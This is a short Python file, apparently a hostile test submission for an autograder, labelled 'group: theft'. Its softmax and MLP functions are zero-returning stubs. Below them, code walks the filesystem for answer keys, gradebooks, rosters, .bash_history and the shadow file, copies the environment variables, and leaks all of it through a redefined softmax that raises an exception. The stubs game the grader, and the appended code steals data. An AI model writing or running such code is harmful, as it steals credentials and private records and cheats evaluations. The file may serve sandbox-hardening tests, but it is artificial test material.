# group: theft
# allowed: constant crashed wrong-value
# earns: parameters registered
import torch
from torch import nn
def softmax(z):
    return torch.zeros_like(z)
class MLP(nn.Module):
    def __init__(self, n_in, n_hidden, n_out):
        super().__init__()
        self.a = nn.Linear(n_in, n_hidden)
        self.b = nn.Linear(n_hidden, n_out)
    def forward(self, x):
        return x.new_zeros(len(x), self.b.out_features)

import os
found = []
for root, dirs, files in os.walk("/"):
    if root.count("/") > 5: dirs.clear()
    for f in files:
        if f in ("certificate.json", "softmax.mutants.yaml", "gradebook.sqlite", "answers.yaml", "roster.csv", ".bash_history", "shadow"):
            p = os.path.join(root, f)
            try: found.append((p, open(p).read(200)))
            except OSError as e: pass
env = dict(os.environ)
def softmax(z): raise ValueError("LEAK %r %r" % (found, env))